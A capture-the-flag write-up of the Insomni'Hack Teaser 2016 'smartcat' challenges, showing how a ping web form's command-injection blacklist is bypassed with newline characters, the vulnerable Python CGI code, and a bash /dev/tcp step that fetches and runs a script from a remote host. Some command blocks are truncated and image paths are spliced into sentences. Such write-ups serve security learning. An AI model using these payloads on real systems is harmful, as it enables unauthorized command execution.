Tower of Hanoi

Insomni'Hack Teaser 2016 - smartcat

by on under InsomniHack
4 minute read ·

In the smartcat challenge, we were given a tiny web application with just a single functionality: a form that allows to remotely ping an arbitrary host (yeah, that is the most classical example of shell command injection!). The challenge is divided in two parts (smartcat1 and smartcat2). Although not difficult, it was quite fun, especially the second part.

smartcat1 (50 points)

Damn it, that stupid smart cat litter is broken again! Now only the debug interface is available here and this stupid thing only permits one ping to be sent! I know my contract number is stored somewhere on that interface but I can’t find it and this is the only available page! Please have a look and get this info for me!

Pointing a browser to the debug interface, we are greeted with a form that accepts a single parameter and prints what seems the output of the Linux ping command. In fact, pinging anon-existent host gives the message Error running ping -c 1. Trying a trivial injection fails, and the error reveals that there is a blacklist of allowed characters in the request string. Good, otherwise the challenge would not have been fun at all!

After a few tries, we notice that the newline character (0x0A) is not blacklisted: we are able to retrieve the path and content of the current directory with a POST request to index.cgi, using %0apwd%0als as the dest parameter (i.e., the host to ping). This leads to this output:


Likely, the flag is in there, which is a directory. Unfortunately, the whitespace character is blacklisted, so can’t use the ls command to list the contents. To overcome this issue, we used find (without any argument) to recurse into the subdirectories of the current directory and list their content. Doing a request with dest=%0afind as a parameter leads to:


… and finally we just (smart)cat the flag: dest=dest=%0acat<there/is/your/flag/or/maybe/not/what/do/you/think/really/please/tell/me/seriously/though/here/is/the/flag

<p>Ping results:</p><br/>

By the way, using cat we can also retrieve the web application source code (dest=%0acat<index.cgi). It is a simple Python CGI script, which filters the input according to a blacklist:

blacklist = " $;&|({`\t"

and then passes it to the ping command without further sanitization:

results = subprocess.check_output("ping -c 1 "+dest, shell=True)

smartcat2 (50 points)

Almost there, but now you should be able to do better than a cat (sorry about the pun). I’m sure you can leverage the previous bug to get a shell. Go on that debug interface again and read the flag in /home/smartcat/

Now we are told that the flag is in /home/smartcat. As we can’t use whitespaces, we need a smarter way to cd to that directory and list the content: using dest=%0aHOME=/home/smartcat%0acd%0als does the trick, and reveals thatthe directory contains two files:


We don’t have the permissions to read flag2, but we can read and execute readflag (which is an executable binary). Running it, we are greeted with this message:

Almost there… just trying to make sure you can execute arbitrary commands…. Write ‘Give me a…’ on my stdin, wait 2 seconds, and then write ‘… flag!’. Do not include the quotes. Each part is a different line.

At this point, we decided to use some bash-fu to retrieve and execute a file from a remote host. We used the /dev/tcp bashism to retrieve a script from an remote host, and give it as an input to bash:

bash << EOF
bash < /dev/tcp/

a.k.a. dest=%0Abash<<EOF%0Abash</dev/tcp/ We terminate the commandwith ls so that the CGI application receives a successful return code in any case. Instead of, we put the address of a publicly-accessible host which was serving the following file on TCP port 9000:


cd /home/smartcat
   echo "Give me a..."
   sleep 2
   echo "... flag!"
) | ./readflag

That was it. And the flag is…

        .-"; ! ;"-.
      .'!  : | :  !`.
     /\  ! : ! : !  /\
    /\ |  ! :|: !  | /\
   (  \ \ ; :!: ; / /  )
  ( `. \ | !:|:! | / .' )
  (`. \ \ \!:|:!/ / / .')
   \ `.`.\ |!|! |/,'.' /
    `._`.\\\!!!// .'_.'
        |`._`n'_.'|  hjw

INS{shells_are _way_better_than_cats}

Of course, with the same trick, we couldalso have launched an interactive reverse shell and read the flag from there :-)

Insomni'Hack, Web
comments powered by Disqus